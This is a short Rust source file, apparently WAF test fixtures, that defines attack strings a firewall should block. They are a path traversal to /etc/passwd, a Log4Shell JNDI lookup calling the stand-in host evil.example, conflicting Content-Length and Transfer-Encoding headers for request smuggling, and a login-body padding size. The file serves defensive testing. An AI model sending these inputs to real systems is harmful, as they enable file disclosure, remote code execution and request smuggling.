//! What a web application firewall should stop.

/// A path out of the directory.
pub(crate) const TRAVERSAL: &str = "../../../../etc/passwd";

/// A lookup that a vulnerable logger evaluates (CVE-2021-44228).
pub(crate) const LOOKUP: &str = "${jndi:ldap://evil.example/a}";

/// Header lines that leave open where the request ends (RFC 9112 §6.3).
pub(crate) const AMBIGUOUS_FRAMING: [&str; 3] = [
    "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 5",
    "Transfer-Encoding: identity, chunked",
];

/// How much is added to a login body, in bytes.
pub(crate) const PADDING: usize = 20_000;
